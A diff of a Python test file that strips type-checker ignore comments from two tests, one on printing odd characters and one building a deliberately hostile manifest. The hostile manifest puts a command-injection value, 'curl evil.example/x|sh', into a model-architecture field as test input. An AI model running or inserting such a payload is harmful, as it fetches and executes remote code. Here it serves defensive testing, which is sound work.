@@ -82,7 +82,7 @@ def test_terminals_that_know_few_characters(encoding: str, monkeypatch: pytest.M
         monkeypatch.setattr(sys, name, io.TextIOWrapper(io.BytesIO(), encoding=encoding))
     print_result("\u00e4 \u4e2d \udcff")
     warn("\u00e4 \u4e2d \udcff")
-    shown = sys.stdout.buffer.getvalue().decode(encoding)  # type: ignore[attr-defined]
+    shown = sys.stdout.buffer.getvalue().decode(encoding)
     assert shown.strip() in {r"\xe4 \u4e2d \udcff", "\u00e4 \\u4e2d \\udcff", "\u00e4 \u4e2d \\udcff"}
 
 
@@ -107,9 +107,9 @@ def hostile_manifest(folder: Path) -> Manifest:
             note=BLOCKS + ESCAPES, license="MIT" + BLOCKS, created_by=BLOCKS, class_names=["<b>" + ESCAPES, BLOCKS, "c"]
         )
         values["commit"] = "`" + BLOCKS
-        values["teacher"]["arch"] = "resnet20; curl evil.example/x|sh #" + BLOCKS  # type: ignore[index]
-        values["generation"]["method"] = BLOCKS  # type: ignore[index]
-        values["generation"]["settings"] = {"refine": [BLOCKS], "bank": 1, "labels": BLOCKS}  # type: ignore[index]
+        values["teacher"]["arch"] = "resnet20; curl evil.example/x|sh #" + BLOCKS
+        values["generation"]["method"] = BLOCKS
+        values["generation"]["settings"] = {"refine": [BLOCKS], "bank": 1, "labels": BLOCKS}
         values.pop("meaning", None)
 
     edit_manifest(folder, spoil)
